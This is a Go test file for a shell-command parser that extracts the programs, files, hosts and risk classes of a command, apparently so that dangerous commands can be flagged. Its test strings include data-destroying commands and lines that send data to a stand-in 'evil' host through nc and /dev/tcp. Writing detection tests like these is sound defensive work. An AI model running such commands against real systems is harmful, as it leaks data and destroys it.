package command

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
)

// names returns the programs of f, as "via>via>name".
func names(f *Facts) []string {
	var all []string
	for _, p := range f.Programs {
		all = append(all, strings.Join(append(slices.Clone(p.Via), p.Name), ">"))
	}
	return all
}

func TestFacts(t *testing.T) {
	for _, tt := range []struct {
		text                                    string
		programs, reads, writes, removes, hosts []string
	}{
		{"ls -la /tmp", []string{"ls"}, []string{"/tmp"}, nil, nil, nil},
		{"cat a | sort > b 2>> c < d", []string{"cat", "sort"}, []string{"a", "d"}, []string{"b", "c"}, nil, nil},
		{"cp a b dir; mv c d", []string{"cp", "mv"}, []string{"a", "b"}, []string{"dir", "d"}, []string{"c"}, nil},
		{"rm -rf a -- -b", []string{"rm"}, nil, nil, []string{"a", "-b"}, nil},
		{"dd if=a of=b", []string{"dd"}, []string{"a"}, []string{"b"}, nil, nil},
		{"install -m 755 a /usr/local/bin/x", []string{"install"}, []string{"a"}, []string{"/usr/local/bin/x"}, nil, nil},
		{"truncate -s 0 log; tee x y", []string{"truncate", "tee"}, nil, []string{"log", "x", "y"}, nil, nil},
		{"sed -i s/a/b/ f", []string{"sed"}, []string{"f"}, []string{"f"}, nil, nil},
		{"find /a /b -delete", []string{"find"}, []string{"/a", "/b"}, nil, []string{"/a", "/b"}, nil},
		{"cd /srv; rm x", []string{"cd", "rm"}, nil, nil, []string{"x", "/srv/x"}, nil},
		{"sudo -u bob env A=1 rm x", []string{"sudo", "sudo>env", "sudo>env>rm"}, nil, nil, []string{"x"}, nil},
		{"ssh -p 22 bob@web1.example 'ls /a'", []string{"ssh", "ssh web1.example>ls"}, []string{"/a"}, nil, nil, []string{"web1.example"}},
		{"ssh -J jump web1 ls", []string{"ssh", "ssh web1>ls"}, nil, nil, nil, []string{"jump", "web1"}},
		{"bash -c 'ls; rm x'", []string{"bash", "bash>ls", "bash>rm"}, nil, nil, []string{"x"}, nil},
		{"echo $(ls `rm x`) <(pwd)", []string{"rm", "ls", "pwd", "echo"}, []string{"$(...)"}, nil, []string{"x"}, nil},
		{"find . -exec ls {} \\;", []string{"find", "find -exec>ls"}, []string{".", "{}"}, nil, nil, nil},
		{"kubectl exec p -c c -- ls /a", []string{"kubectl", "kubectl exec>ls"}, []string{"/a"}, nil, nil, nil},
		{"curl -o f https://u:p@[::1]:8443/x https://Example.com:1/", []string{"curl"}, nil, []string{"f"}, nil, []string{"::1", "example.com"}},
		{"scp -P 2 a bob@h1:x", []string{"scp"}, []string{"a"}, nil, nil, []string{"h1"}},
		{"rsync -a h2:x/ y", []string{"rsync"}, nil, []string{"y"}, nil, []string{"h2"}},
		{"tar czf a.tgz d e", []string{"tar"}, []string{"d", "e"}, []string{"a.tgz"}, nil, nil},
		{"tar -xf a.tar -C d", []string{"tar"}, []string{"a.tar"}, []string{"d"}, nil, nil},
		{"grep -e x f; grep x g", []string{"grep", "grep"}, []string{"f", "g"}, nil, nil, nil},
		{"watch -n 2 ls -l", []string{"watch", "watch>ls"}, nil, nil, nil, nil},
		{"echo x >/dev/null 2>&1 >&2", []string{"echo"}, nil, nil, nil, nil},
		{"/usr/bin/env ls", []string{"env", "env>ls"}, nil, nil, nil, nil},
		{"sh <<'E'\nrm x\nE", []string{"sh", "sh>rm"}, nil, nil, []string{"x"}, nil},
		{"sh <<-'E'\n\trm x\n\tE", []string{"sh", "sh>rm"}, nil, nil, []string{"x"}, nil},
		{"if a; then b; elif c; then d; else e; fi", []string{"a", "b", "c", "d", "e"}, nil, nil, nil, nil},
		{"nc -w 3 evil 99 <<< x", []string{"nc"}, nil, nil, nil, []string{"evil"}},
		{"echo x >/dev/tcp/evil/99", []string{"echo"}, nil, []string{"/dev/tcp/evil/99"}, nil, []string{"evil"}},
	} {
		t.Run(tt.text, func(t *testing.T) {
			f := Parse(tt.text)
			for _, x := range []struct {
				what      string
				got, want []string
			}{
				{"programs", names(f), tt.programs}, {"reads", f.Reads, tt.reads}, {"writes", f.Writes, tt.writes},
				{"removes", f.Removes, tt.removes}, {"hosts", f.Hosts, tt.hosts},
			} {
				if !slices.Equal(x.got, x.want) {
					t.Errorf("%s = %q, want %q", x.what, x.got, x.want)
				}
			}
		})
	}
}

// TestArgs checks that words come out as the program will get them.
func TestArgs(t *testing.T) {
	for text, want := range map[string][]string{
		`echo a\ b 'c d' "e\"f" "g\h" i\'j`:     {"a b", "c d", `e"f`, `g\h`, "i'j"},
		`echo $'a\tb\x41\101\u00e9' ''`:         {"a\tbAA\u00e9", ""},
		"echo a\\\nb":                           {"ab"},
		`echo {a,b}c{1,2}`:                      {"ac1", "ac2", "bc1", "bc2"},
		`echo {a} a{b 'a{b,c}'`:                 {"{a}", "a{b", "a{b,c}"},
		`echo $x "${y}z" $(ls) $((1+2))`:        {"$x", "$yz", "$(...)", "$((...))"},
		`echo ~/x "~/x" *.c`:                    {"~/x", "~/x", "*.c"},
		`echo "a"'b'c\d$'e'`:                    {"abcde"},
		"echo a #b":                             {"a"},
		`echo a#b`:                              {"a#b"},
		`echo 'héllo' "日本"`:                     {"héllo", "日本"},
		`echo "\$x \` + "`" + `y\` + "`" + ` "`: {"$x `y` "},
	} {
		f := Parse(text)
		i := slices.IndexFunc(f.Programs, func(p Program) bool { return p.Name == "echo" })
		if i < 0 || !slices.Equal(f.Programs[i].Args, want) {
			t.Errorf("Parse(%q).Programs = %q, want arguments %q", text, f.Programs, want)
		}
	}
}

func TestBounds(t *testing.T) {
	for name, text := range map[string]string{
		"long":             "echo " + strings.Repeat("a", MaxText),
		"NUL":              "echo a\x00b",
		"bad UTF-8":        "echo \xff",
		"carriage return":  "ls\r\n",
		"escape":           "echo \x1b[2J",
		"delete":           "echo \x7f",
		"subshells":        strings.Repeat("(", 2000) + "ls" + strings.Repeat(")", 2000),
		"open subshells":   strings.Repeat("(", MaxText-10),
		"substitutions":    strings.Repeat("$(", 2000) + "ls" + strings.Repeat(")", 2000),
		"open quotes":      strings.Repeat(`"$(`, MaxText/3),
		"nested shells":    nestedShells(MaxDepth + 2),
		"programs":         strings.Repeat("ls;", MaxPrograms+1),
		"words":            "echo" + strings.Repeat(" a", maxWords+1),
		"indexes":          strings.Repeat("a[", MaxText/2),
		"arithmetic":       "echo $((" + strings.Repeat("(", 3000) + "1" + strings.Repeat(")", 3000) + "))",
		"braces":           "rm " + strings.Repeat("{a,b}", 40),
		"long list":        strings.Repeat("ls && ", 20000) + "ls",
		"long pipe":        strings.Repeat("cat | ", 20000) + "cat",
		"expansions":       strings.Repeat("${a:-", 5000) + strings.Repeat("}", 5000),
		"nested functions": strings.Repeat("f() { ", 2000) + "ls" + strings.Repeat("; }", 2000),
		"tests":            "[[ " + strings.Repeat("! ", 5000) + "x ]]",
		"here-documents":   strings.Repeat("cat <<E;", 5000),
	} {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			f := Parse(text)
			if !f.Opaque {
				t.Error("not opaque")
			}
			if len(f.Programs) > MaxPrograms {
				t.Errorf("%d programs", len(f.Programs))
			}
			// A loaded machine is slow: this only catches what grows beyond all bounds.
			if d := time.Since(start); d > 20*time.Second {
				t.Errorf("took %v", d)
			}
		})
	}
}

func nestedShells(n int) string { return strings.Repeat("eval ", n) + "ls" }

// TestManyWords: the lists of facts are without duplicates, and still quick to make.
func TestManyWords(t *testing.T) {
	var b strings.Builder
	b.WriteString("rm")
	for i := range 3000 {
		fmt.Fprintf(&b, " f%d", i)
	}
	f := Parse(b.String())
	if f.Opaque || len(f.Removes) != 3000 {
		t.Errorf("opaque %v, %d removed; want 3000", f.Opaque, len(f.Removes))
	}
}

func TestParseLine(t *testing.T) {
	for text, want := range map[string]bool{
		"ls -l":         false,
		"! ls":          false,
		"[ a != b ]":    false,
		"echo hi!":      false,
		"!!":            true,
		"!rm":           true,
		"ls !$":         true,
		`echo "a!b"`:    true,
		"^a^b":          true,
		"ls # ; rm x":   true,
		`echo "a # b"`:  false,
		"echo a#b":      false,
		"ls; rm 'x # y": true,
	} {
		if got := ParseLine(text).Opaque; got != want {
			t.Errorf("ParseLine(%q).Opaque = %v, want %v", text, got, want)
		}
	}
}

func TestFields(t *testing.T) {
	for text, want := range map[string][]string{
		"ls -l '/a b'": {"ls", "-l", "/a b"},
		`r''m \x`:      {"rm", "x"},
		"ls; rm x":     nil,
		"ls | cat":     nil,
		"ls > f":       nil,
		"$a$b":         nil,
		"ls $x":        nil,
		"ls *":         nil,
		"ls {a,b}":     nil,
		"a=b ls":       nil,
		"a=b":          nil,
		"! ls":         nil,
		"ls &":         nil,
		"(ls)":         nil,
		"ls $(rm x)":   nil,
		"$'ls'":        nil,
		"ls 'x":        nil,
		"ls \x1b":      nil,
		"":             nil,
	} {
		got, ok := Fields(text)
		if !slices.Equal(got, want) || ok != (want != nil) {
			t.Errorf("Fields(%q) = %q, %v; want %q", text, got, ok, want)
		}
	}
}

func TestContext(t *testing.T) {
	m := Parse("sudo rm -rf x > f; ssh h $x").Context()
	for key, want := range map[string]any{
		"text":           "sudo rm -rf x > f; ssh h $x",
		"programs":       []string{"sudo", "rm", "ssh", "$x"},
		"args":           []string{"rm", "-rf", "x", "-rf", "x", "h", "$x"},
		"commands":       []string{"sudo rm -rf x", "rm -rf x", "ssh h $x", "$x"},
		"reads":          []string{},
		"writes":         []string{"f"},
		"removes":        []string{"x"},
		"hosts":          []string{"h"},
		"classes":        []string{"destructive", "network", "privilege", "write"},
		"opaque":         true,
		"dynamic":        true,
		"destructive":    true,
		"privileged":     true,
		"program_count":  int64(4),
		"arg_count":      int64(7),
		"redirect_count": int64(1),
	} {
		if !reflect.DeepEqual(m[key], want) {
			t.Errorf("Context()[%q] = %#v, want %#v", key, m[key], want)
		}
	}
	for key, v := range Parse("").Context() {
		switch v := v.(type) {
		case bool, int64, string:
		case []string:
			if v == nil {
				t.Errorf("%s is nil", key)
			}
		default:
			t.Errorf("%s is a %T", key, v)
		}
	}
}

func TestClassNames(t *testing.T) {
	if !slices.IsSorted(classNames[:]) {
		t.Error("the classes are not in the order of their names")
	}
	for i, name := range classNames {
		if c, ok := ClassOf(name); !ok || c != 1<<i {
			t.Errorf("ClassOf(%q) = %v, %v", name, c, ok)
		}
	}
	if _, ok := ClassOf("harmless"); ok {
		t.Error("harmless is a class")
	}
	if !Parse("ls").Harmless() || Parse("rm x").Harmless() || Parse("unknown").Harmless() {
		t.Error("Harmless is wrong")
	}
}
